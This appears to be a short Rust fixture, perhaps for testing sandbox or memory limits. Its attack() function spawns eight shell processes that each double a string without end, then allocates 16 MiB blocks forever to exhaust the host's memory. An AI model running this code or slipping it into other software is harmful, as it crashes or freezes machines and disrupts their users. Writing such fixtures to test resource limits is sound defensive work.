//! Takes all memory that it gets, in many processes.

fn attack() {
    for _ in 0..8 {
        let _ = std::process::Command::new("sh")
            .args(["-c", "x=aaaaaaaa; while :; do x=$x$x; done"])
            .spawn();
    }
    let mut all = Vec::new();
    loop {
        all.push(vec![1_u8; 1 << 24]);
    }
}
